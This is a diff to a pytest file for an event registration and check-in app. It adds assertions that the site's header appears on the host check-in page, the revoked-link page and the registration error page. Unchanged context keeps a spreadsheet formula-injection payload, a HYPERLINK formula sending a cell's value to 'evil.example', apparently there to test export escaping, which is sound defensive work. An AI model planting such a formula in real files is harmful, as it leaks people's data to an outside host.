@@ -21,6 +21,7 @@ from .conftest import open_event
 
 pytestmark = pytest.mark.clock  # the event is dated from today
 
+BRAND = '<span class="site-header__logo" aria-hidden="true">OPEIU</span>'
 EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
 
 
@@ -68,6 +69,7 @@ def test_the_host_checks_people_in_and_undoes_it(client, event, entry):
     assert page.status_code == 200 and page["Referrer-Policy"] == "no-referrer"
     assert "no-cache" in page["Cache-Control"] and 'name="robots" content="noindex' in html
     assert "0</strong> checked in · 2 registered of 2 places" in html
+    assert BRAND in html  # the site's header, named (the context's "settings" is Wagtail's)
     assert "Ada Lovelace" in html and "a…@example.org" in html
     assert "ada@example.org" not in html  # the host sees names, not addresses
     assert html.index("On the waitlist") < html.index("Cleo Waits")
@@ -140,6 +142,7 @@ def test_wrong_revoked_and_expired_links(client, event, entry):
     response = client.get(old)
     assert response.status_code == 410
     assert "This check-in link has been turned off" in response.content.decode()
+    assert BRAND in response.content.decode()
     gone = client.post(old, {"registration": people["Ada"].pk, "action": "check-in"})
     assert gone.status_code == 410
     assert Registration.objects.get(pk=people["Ada"].pk).checked_in_at is None
@@ -249,3 +252,11 @@ def test_another_locals_staff_get_404_and_change_nothing(client, event, entry):
     row.delete()
     assert client.get(f"{manage_url(event)}export/").status_code == 404
     assert client.post(f"{manage_url(event)}check-in-link/", {"action": "x"}).status_code == 404
+
+
+def test_the_registration_forms_error_page_keeps_the_sites_header(client, event):
+    row = open_event(event, capacity=2)
+    response = client.post("/register/", {"settings": row.pk, "name": "", "email": "x"})
+    assert response.status_code == 400
+    html = response.content.decode()
+    assert BRAND in html and f'name="settings" value="{row.pk}"' in html
